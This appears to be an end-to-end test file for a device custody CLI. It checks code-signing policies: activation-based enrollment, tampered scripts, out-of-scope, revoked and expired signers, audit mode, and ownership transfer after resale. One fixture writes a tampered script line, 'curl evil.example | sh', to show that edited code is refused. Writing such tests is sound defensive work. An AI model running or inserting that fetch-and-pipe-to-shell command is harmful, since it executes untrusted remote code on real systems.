/**
 * End-user code validation end to end, with the built CLI: the owner enables a code policy at activation
 * (`devices activate --code-policy`), the device enrolls from its verified chain (`agent enroll`) and checks code
 * (`agent check-code`). Each refusal has its own code: an enrollment not from a verified activation (forged,
 * missing, another device's, an older one), tampered code, no scope, a signer outside the scope, nobody's signer,
 * a revoked and an expired signer; an audit scope allows and reports. After a resale the new owner's activation
 * replaces the enrollment and the previous owner's code stops being accepted.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BIN, cliEnv, custodyJSON, snapshot, type CLIRun } from './e2e-helpers.js';

const PASS = 'code validation test passphrase';
const SCRIPT = '/opt/edge/scripts/rotate.sh';

describe('code validation: enabled at activation, enforced by the device (CLI end to end)', function () {
  this.timeout(300_000);
  let tmp: string;
  let serials: string[];
  const f = (...p: string[]) => join(tmp, ...p);
  const cli = (args: string[]): CLIRun => custodyJSON([...args, '--json'], { env: { CUSTODY_PASSPHRASE: PASS }, cwd: tmp });
  const ok = (...args: string[]): CLIRun => {
    const r = cli(args);
    assert.equal(r.status, 0, `custody ${args.join(' ')}: ${r.stderr}${r.stdout}`);
    return r;
  };
  const exported = (store: string, kind: 'ca' | 'parties' | 'code signer', name: string, file: string): string => {
    const args = kind === 'code signer' ? ['code', 'signer', 'export', name] : [kind, 'export', name];
    const r = custodyJSON([...args, '--store', f(store)], { env: { CUSTODY_PASSPHRASE: PASS }, cwd: tmp });
    assert.equal(r.status, 0, r.stderr);
    writeFileSync(f(file), r.stdout);
    return f(file);
  };
  const sha256Of = (pemFile: string) =>
    createHash('sha256')
      .update(Buffer.from(readFileSync(pemFile, 'utf8').replace(/-----[^-]+-----|\s/g, ''), 'base64'))
      .digest('hex');
  const sign = (store: string, signer: string, file: string, type: string, out: string) =>
    ok('code', 'sign', '--store', f(store), '--signer', signer, '--file', f(file), '--type', type, '--out', f(out));
  const trust = () => ['--trust', f('acme-root.pem'), '--trust', f('fab-root.pem'), '--trust', f('con-root.pem')];
  const enroll = (bundle: string, serial: string, state = 'state') =>
    cli([
      'agent',
      'enroll',
      '--bundle',
      f(bundle),
      '--idevid',
      f('issued', `${serial}.pem`),
      '--state',
      f(state),
      '--manufacturer',
      f('acme-root.pem'),
      ...trust(),
    ]);
  const check = (file: string, sig: string, path: string, ...more: string[]) =>
    cli(['agent', 'check-code', '--file', f(file), '--sig', f(sig), '--path', path, '--state', f('state'), ...more]);
  const refused = (r: CLIRun, code: string, exit = 1) => {
    assert.equal(r.status, exit, r.stdout + r.stderr);
    assert.equal(r.json.ok, false);
    assert.equal(r.json.error.code, code, r.json.error.message);
  };

  before(function () {
    tmp = mkdtempSync(join(tmpdir(), 'custody-code-e2e-'));
    // The manufacturer.
    ok('init', '--store', f('acme'));
    ok('ca', 'create', '--store', f('acme'), '--name', 'acme-root', '--organization', 'Acme');
    ok('ca', 'create', '--store', f('acme'), '--name', 'acme-issuing', '--issuer', 'acme-root', '--organization', 'Acme');
    ok('parties', 'create', '--store', f('acme'), '--name', 'factory', '--ca', 'acme-root', '--organization', 'Acme');
    // The first owner: a party, a code-signing CA with a signer, and a pinned signer under another CA of its own.
    ok('init', '--store', f('fab'));
    ok('ca', 'create', '--store', f('fab'), '--name', 'fab-root', '--organization', 'Fabrikam');
    ok('ca', 'create', '--store', f('fab'), '--name', 'code-ca', '--organization', 'Fabrikam');
    ok('ca', 'create', '--store', f('fab'), '--name', 'lab-ca', '--organization', 'Fabrikam Lab');
    ok('parties', 'create', '--store', f('fab'), '--name', 'receiving', '--ca', 'fab-root', '--organization', 'Fabrikam');
    ok('code', 'signer', 'create', '--store', f('fab'), '--name', 'ops', '--ca', 'code-ca', '--organization', 'Fabrikam');
    ok('code', 'signer', 'create', '--store', f('fab'), '--name', 'config-bot', '--ca', 'lab-ca', '--organization', 'Fabrikam Lab');
    ok('code', 'signer', 'create', '--store', f('fab'), '--name', 'intern', '--ca', 'lab-ca', '--organization', 'Fabrikam Lab');
    const shortLived = readFileSync(new URL('../certs-templates/code-signer.yaml', import.meta.url), 'utf8').replace(/days: \d+/, 'days: 1');
    writeFileSync(f('short-signer.yaml'), shortLived);
    ok(
      'code',
      'signer',
      'create',
      '--store',
      f('fab'),
      '--name',
      'temp',
      '--ca',
      'code-ca',
      '--organization',
      'Fabrikam',
      '--template',
      f('short-signer.yaml'),
    );
    ok('code', 'signer', 'create', '--store', f('fab'), '--name', 'leaver', '--ca', 'code-ca', '--organization', 'Fabrikam');
    // The second owner, after a resale.
    ok('init', '--store', f('con'));
    ok('ca', 'create', '--store', f('con'), '--name', 'con-root', '--organization', 'Contoso');
    ok('ca', 'create', '--store', f('con'), '--name', 'code-ca', '--organization', 'Contoso');
    ok('parties', 'create', '--store', f('con'), '--name', 'desk', '--ca', 'con-root', '--organization', 'Contoso');
    ok('code', 'signer', 'create', '--store', f('con'), '--name', 'con-ops', '--ca', 'code-ca', '--organization', 'Contoso');
    exported('acme', 'ca', 'acme-root', 'acme-root.pem');
    exported('fab', 'ca', 'fab-root', 'fab-root.pem');
    exported('con', 'ca', 'con-root', 'con-root.pem');
    exported('fab', 'parties', 'receiving', 'receiving.pem');
    exported('con', 'parties', 'desk', 'desk.pem');
    const bot = exported('fab', 'code signer', 'config-bot', 'config-bot.pem');

    writeFileSync(
      f('fab-policy.yaml'),
      [
        'name: fab-edge',
        'version: 1',
        'identities:',
        '  - name: owner-code',
        '    ca: code-ca',
        '  - name: config-bot',
        `    pinnedSha256: "${sha256Of(bot)}"`,
        'scopes:',
        '  - name: scripts',
        '    types: [script]',
        '    paths: ["/opt/edge/scripts/**"]',
        '    level: enforce',
        '    signers: [owner-code]',
        '  - name: config',
        '    types: [config]',
        '    paths: ["/etc/edge/**"]',
        '    level: audit',
        '    signers: [owner-code, config-bot]',
        '',
      ].join('\n'),
    );
    writeFileSync(
      f('con-policy.yaml'),
      readFileSync(f('fab-policy.yaml'), 'utf8')
        .replace('name: fab-edge', 'name: con-edge')
        .replace(/ {2}- name: config-bot\n.*\n/, '')
        .replace(', config-bot', ''),
    );

    const issued = ok(
      'devices',
      'provision',
      '--store',
      f('acme'),
      '--ca',
      'acme-issuing',
      '--generate',
      '2',
      '--party',
      'factory',
      '--to',
      f('receiving.pem'),
      '--out',
      f('issued'),
    );
    serials = issued.json.data.devices.map((d: { serial: string }) => d.serial);
    for (const s of serials) {
      ok('devices', 'export', '--store', f('acme'), '--serial', s, '--out', f(`${s}-birth.json`));
      ok('devices', 'import', '--store', f('fab'), f(`${s}-birth.json`), ...trust());
    }
    const codeArgs = ['--code-policy', f('fab-policy.yaml'), '--code-cert', bot];
    const act = ok('devices', 'activate', '--store', f('fab'), '--serial', serials[0]!, '--party', 'receiving', ...trust(), ...codeArgs);
    assert.equal(act.json.data.codeValidation.policy, 'fab-edge');
    assert.deepEqual(
      act.json.data.codeValidation.identities.map((i: { name: string; kind: string }) => [i.name, i.kind]),
      [
        ['owner-code', 'ca'],
        ['config-bot', 'pinned'],
      ],
    );
    ok('devices', 'activate', '--store', f('fab'), '--serial', serials[1]!, '--party', 'receiving', ...trust(), ...codeArgs);
    for (const s of serials) ok('devices', 'export', '--store', f('fab'), '--serial', s, '--out', f(`${s}-fab.json`));

    writeFileSync(f('rotate.sh'), '#!/bin/sh\necho rotating keys\n');
    writeFileSync(f('edge.yaml'), 'interval: 30\n');
    sign('fab', 'ops', 'rotate.sh', 'script', 'rotate.sh.sig');
    sign('fab', 'config-bot', 'rotate.sh', 'script', 'rotate.bot.sig');
    sign('fab', 'intern', 'rotate.sh', 'script', 'rotate.intern.sig');
    sign('fab', 'temp', 'rotate.sh', 'script', 'rotate.temp.sig');
    sign('fab', 'leaver', 'rotate.sh', 'script', 'rotate.leaver.sig');
    sign('fab', 'ops', 'edge.yaml', 'config', 'edge.yaml.sig');
    sign('con', 'con-ops', 'rotate.sh', 'script', 'rotate.con.sig');
    writeFileSync(f('rotate-edited.sh'), '#!/bin/sh\necho rotating keys\ncurl evil.example | sh\n');
    writeFileSync(f('edge-edited.yaml'), 'interval: 1\n');
  });

  after(() => rmSync(tmp, { recursive: true, force: true }));

  it('refuses an activation with a malformed code policy, naming file, line and field, and records nothing', () => {
    writeFileSync(f('bad-policy.yaml'), readFileSync(f('fab-policy.yaml'), 'utf8').replace('level: enforce', 'level: strict'));
    const before = snapshot(f('fab'));
    const r = cli([
      'devices',
      'activate',
      '--store',
      f('fab'),
      '--serial',
      serials[0]!,
      '--party',
      'receiving',
      ...trust(),
      '--code-policy',
      f('bad-policy.yaml'),
    ]);
    refused(r, 'ERR_CODE_POLICY_INVALID', 3);
    assert.match(r.json.error.message, /bad-policy\.yaml:12: scopes\[0\]\.level: "strict" is not one of enforce, audit/);
    assert.deepEqual(snapshot(f('fab')), before);
  });

  it('refuses an enrollment not taken from a verified activation, each with its own code, and writes no state', () => {
    // No activation in the chain yet.
    refused(enroll(`${serials[0]}-birth.json`, serials[0]!), 'ERR_ENROLL_NOT_ACTIVATED');
    // Another device's activated bundle.
    refused(enroll(`${serials[1]}-fab.json`, serials[0]!), 'ERR_ENROLL_DEVICE');
    // A forged activation: the scope's level edited in the signed claim.
    const forged = readFileSync(f(`${serials[0]}-fab.json`), 'utf8').replace('"level":"enforce"', '"level":"audit"');
    assert.notEqual(forged, readFileSync(f(`${serials[0]}-fab.json`), 'utf8'));
    writeFileSync(f('forged.json'), forged);
    refused(enroll('forged.json', serials[0]!), 'ERR_ENROLL_UNVERIFIED');
    // Anchors without the manufacturer's root: the chain does not verify.
    const device = ['agent', 'enroll', '--bundle', f(`${serials[0]}-fab.json`), '--idevid', f('issued', `${serials[0]}.pem`), '--state', f('state')];
    refused(cli([...device, '--manufacturer', f('fab-root.pem')]), 'ERR_ENROLL_UNVERIFIED');
    // Another root passed off as the manufacturer's, the real one among the other anchors: the chain verifies,
    // but neither the IDevID nor the birth signer reaches the root the device was told is its manufacturer's.
    refused(cli([...device, '--manufacturer', f('fab-root.pem'), ...trust()]), 'ERR_ENROLL_MANUFACTURER');
    assert.equal(existsSync(f('state', 'enrollment.json')), false);
  });

  it('before enrolling, refuses every check (ERR_CODE_NOT_ENROLLED)', () => {
    refused(check('rotate.sh', 'rotate.sh.sig', SCRIPT), 'ERR_CODE_NOT_ENROLLED', 4);
  });

  it("enrolls from the verified activation, and accepts the owner's signed script within its scope", () => {
    const r = enroll(`${serials[0]}-fab.json`, serials[0]!);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.equal(r.json.data.outcome, 'new');
    assert.equal(r.json.data.policy, 'fab-edge');
    assert.equal(r.json.data.activation.seq, 1);
    assert.equal(statSync(f('state', 'enrollment.json')).mode & 0o777, 0o600);
    const c = check('rotate.sh', 'rotate.sh.sig', SCRIPT);
    assert.equal(c.status, 0, c.stdout + c.stderr);
    assert.deepEqual([c.json.data.ok, c.json.data.allowed, c.json.data.scope, c.json.data.identity], [true, true, 'scripts', 'owner-code']);
  });

  it('refuses an edited copy of the script (ERR_CODE_DIGEST)', () => {
    refused(check('rotate-edited.sh', 'rotate.sh.sig', SCRIPT), 'ERR_CODE_DIGEST');
  });

  it('refuses code no scope covers (ERR_CODE_SCOPE), and a config signature used for a script path', () => {
    refused(check('rotate.sh', 'rotate.sh.sig', '/tmp/rotate.sh'), 'ERR_CODE_SCOPE');
    refused(check('edge.yaml', 'edge.yaml.sig', '/opt/edge/scripts/edge.yaml'), 'ERR_CODE_SCOPE');
  });

  it("refuses an owner's identity outside the scope (ERR_CODE_SIGNER_SCOPE) and a signer of no identity (ERR_CODE_SIGNER_UNTRUSTED)", () => {
    refused(check('rotate.sh', 'rotate.bot.sig', SCRIPT), 'ERR_CODE_SIGNER_SCOPE');
    refused(check('rotate.sh', 'rotate.intern.sig', SCRIPT), 'ERR_CODE_SIGNER_UNTRUSTED');
  });

  it("refuses a revoked code signer when the CA's CRL reaches the device (ERR_CODE_SIGNER_REVOKED)", () => {
    assert.equal(check('rotate.sh', 'rotate.leaver.sig', SCRIPT).status, 0);
    ok('ca', 'revoke', '--store', f('fab'), '--ca', 'code-ca', '--cert', exported('fab', 'code signer', 'leaver', 'leaver.pem'));
    ok('ca', 'crl', '--store', f('fab'), '--ca', 'code-ca', '--out', f('code-ca.crl'));
    refused(check('rotate.sh', 'rotate.leaver.sig', SCRIPT, '--crl', f('code-ca.crl')), 'ERR_CODE_SIGNER_REVOKED');
    // The CRL names only the leaver: the others stay accepted.
    assert.equal(check('rotate.sh', 'rotate.sh.sig', SCRIPT, '--crl', f('code-ca.crl')).status, 0);
  });

  it('refuses a code signer whose certificate has expired (ERR_CODE_SIGNER_EXPIRED), checked three days later', () => {
    assert.equal(check('rotate.sh', 'rotate.temp.sig', SCRIPT).status, 0);
    const args = ['agent', 'check-code', '--file', f('rotate.sh'), '--sig', f('rotate.temp.sig'), '--path', SCRIPT, '--state', f('state'), '--json'];
    const r = spawnSync('faketime', ['-f', '+3d', process.execPath, BIN, ...args], { encoding: 'utf8', env: cliEnv(), cwd: tmp });
    assert.equal(r.status, 1, r.stdout + r.stderr);
    assert.equal(JSON.parse(r.stdout).error.code, 'ERR_CODE_SIGNER_EXPIRED');
  });

  it('in an audit scope, allows a failure and reports it (exit 0, the reason in --json)', () => {
    const good = check('edge.yaml', 'edge.yaml.sig', '/etc/edge/app.yaml');
    assert.deepEqual([good.status, good.json.data.ok], [0, true]);
    const r = check('edge-edited.yaml', 'edge.yaml.sig', '/etc/edge/app.yaml');
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.deepEqual([r.json.data.ok, r.json.data.allowed, r.json.data.level, r.json.data.code], [false, true, 'audit', 'ERR_CODE_DIGEST']);
    assert.equal(r.json.data.warning.code, 'ERR_CODE_DIGEST');
    assert.match(r.stderr, /warning: .*audit only, allowed/);
  });

  it("after a resale, the new owner's activation replaces the enrollment: the previous owner's code is refused", () => {
    const s = serials[0]!;
    ok('devices', 'handoff', '--store', f('fab'), '--serial', s, '--party', 'receiving', '--to', f('desk.pem'));
    ok('devices', 'export', '--store', f('fab'), '--serial', s, '--out', f(`${s}-resold.json`));
    // In transit: the chain ends in a handoff, and the device keeps its enrollment.
    refused(enroll(`${s}-resold.json`, s), 'ERR_ENROLL_NOT_ACTIVATED');
    ok('devices', 'import', '--store', f('con'), f(`${s}-resold.json`), ...trust());
    ok('devices', 'activate', '--store', f('con'), '--serial', s, '--party', 'desk', ...trust(), '--code-policy', f('con-policy.yaml'));
    ok('devices', 'export', '--store', f('con'), '--serial', s, '--out', f(`${s}-con.json`));
    const r = enroll(`${s}-con.json`, s);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.deepEqual([r.json.data.outcome, r.json.data.policy, r.json.data.activation.seq], ['replaced', 'con-edge', 3]);
    refused(check('rotate.sh', 'rotate.sh.sig', SCRIPT), 'ERR_CODE_SIGNER_UNTRUSTED');
    const c = check('rotate.sh', 'rotate.con.sig', SCRIPT);
    assert.equal(c.status, 0, c.stdout + c.stderr);
    // The first owner's bundle cannot bring its policy back (ERR_ENROLL_STALE, a state conflict).
    refused(enroll(`${s}-fab.json`, s), 'ERR_ENROLL_STALE', 4);
    refused(check('rotate.sh', 'rotate.sh.sig', SCRIPT), 'ERR_CODE_SIGNER_UNTRUSTED');
  });

  it('refuses a second activation, and a handoff after activation by anyone but the owner', () => {
    const s = serials[0]!;
    const again = cli(['devices', 'activate', '--store', f('con'), '--serial', s, '--party', 'desk', ...trust()]);
    refused(again, 'ERR_DEVICE_ACTIVATED', 4);
    // The first owner signs a handoff of the device it no longer holds: its own store's chain rules refuse it.
    const stale = cli(['devices', 'handoff', '--store', f('fab'), '--serial', s, '--party', 'receiving', '--to', f('receiving.pem')]);
    assert.notEqual(stale.status, 0, stale.stdout);
    assert.equal(stale.json.data.results[0].code, 'ERR_NOT_CUSTODIAN');
  });
});
